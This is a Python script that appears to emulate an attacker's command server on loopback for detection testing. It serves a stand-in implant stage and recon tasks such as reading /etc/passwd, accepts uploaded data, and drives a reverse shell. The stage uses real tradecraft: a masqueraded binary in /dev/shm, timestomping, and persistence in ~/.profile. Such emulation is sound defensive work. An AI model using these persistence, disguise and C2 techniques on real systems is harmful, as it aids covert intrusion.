#!/usr/bin/env python3
"""The far end of an emulated attack: stands on loopback in the endpoint's network, outside of what is recorded.

remote.py web PORT          hands out what attacks.py fetches, takes what it sends, forgets it
remote.py shell PORT LINE...   takes one connection, types the lines into it with a person's pauses, closes it
"""

import base64
import http.server
import random
import socket
import sys
import time

STAGE = """#!/bin/bash
# A stand-in for an implant: a copy of sleep under another name, and a line in a shell's profile.
d=${1:-/dev/shm/.fonts}
mkdir -p $d
cp /bin/sleep $d/fontd
chmod 700 $d/fontd
touch -r /bin/ls $d/fontd
nohup $d/fontd 150 >/dev/null 2>&1 &
grep -q fontd ~/.profile 2>/dev/null || echo "pgrep -x fontd >/dev/null || ($d/fontd 60 &)" >>~/.profile
uname -a; id; ip -br addr 2>/dev/null | head -3
"""
TASKS = ["id", "uname -a", "cat /etc/passwd | tail -5", "ls -la ~", "ps -ef | tail -20", "ss -tn"]


class Far(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        if self.path.startswith("/task"):
            body = random.choice(TASKS)
        elif self.path.startswith("/b64"):
            body = base64.b64encode(STAGE.encode()).decode()
        else:
            body = STAGE
        self.send_response(200)
        self.end_headers()
        self.wfile.write(body.encode())

    def do_POST(self):
        self.rfile.read(int(self.headers.get("Content-Length", 0)))
        self.send_response(204)
        self.end_headers()

    do_PUT = do_POST

    def log_message(self, format, *args):  # pylint: disable=redefined-builtin
        pass


def shell(port, lines):
    with socket.create_server(("127.0.0.1", port)) as server:
        server.settimeout(90)
        peer, _ = server.accept()
        with peer:
            for line in [*lines, "exit"]:
                time.sleep(random.uniform(1, 5))
                peer.sendall(line.encode() + b"\n")
            time.sleep(2)


if sys.argv[1] == "web":
    http.server.ThreadingHTTPServer(("127.0.0.1", int(sys.argv[2])), Far).serve_forever()
else:
    shell(int(sys.argv[2]), sys.argv[3:])
